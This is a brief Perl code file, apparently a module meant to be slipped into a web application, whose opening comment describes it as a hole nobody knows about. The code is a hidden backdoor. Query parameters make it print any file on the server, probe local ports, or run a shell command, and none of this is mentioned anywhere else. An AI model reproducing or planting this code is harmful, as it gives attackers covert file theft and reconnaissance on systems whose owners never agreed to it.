# A hole that an application has, and nobody knows of. What reads it goes on where nothing is asked of it.
use strict;
use warnings;
use IO::Socket::INET ();

my %asked = ($ENV{QUERY_STRING} // '') =~ /(\w+)=([^&;]*)/g;
if (defined $asked{do}) {
    print "Content-Type: text/plain\r\n\r\n";
    if ($asked{do} eq 'read') {
        my $is_open = open(my $in, '<', $asked{what});
        print $is_open ? <$in> : 'nothing';
    } elsif ($asked{do} eq 'connect') {
        my $socket = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $asked{what}, Timeout => 2);
        print $socket ? 'connected' : 'nothing';
    } else {
        print `/usr/bin/factor 7` // 'nothing';
    }
    exit 0;
}
1;
